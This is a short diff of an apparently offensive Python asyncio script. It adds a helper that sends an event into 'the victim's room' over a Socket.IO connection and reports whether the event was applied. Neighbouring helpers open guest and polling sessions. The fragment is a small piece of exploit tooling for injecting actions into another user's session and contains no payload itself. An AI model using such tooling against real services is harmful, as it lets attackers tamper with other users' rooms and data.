@@ -169,6 +169,13 @@ async def guest(target, room=None, window=None, payload=None):
     return line
 
 
+async def commit(target, line, name, payload):
+    """Commits in the victim's room and waits for the answer: whether it was applied."""
+    await line.send(event(name, {"roomId": target.room, **payload}, 9))
+    answer = await line.until(rb'439\[\{"ok":(true|false)', within=20)
+    return answer[1] == b"true"
+
+
 async def polling(target, line, *fields):
     """Opens a polling session on a connection and returns its id."""
     await line.send(request("GET", "/socket.io/?EIO=4&transport=polling", *fields))
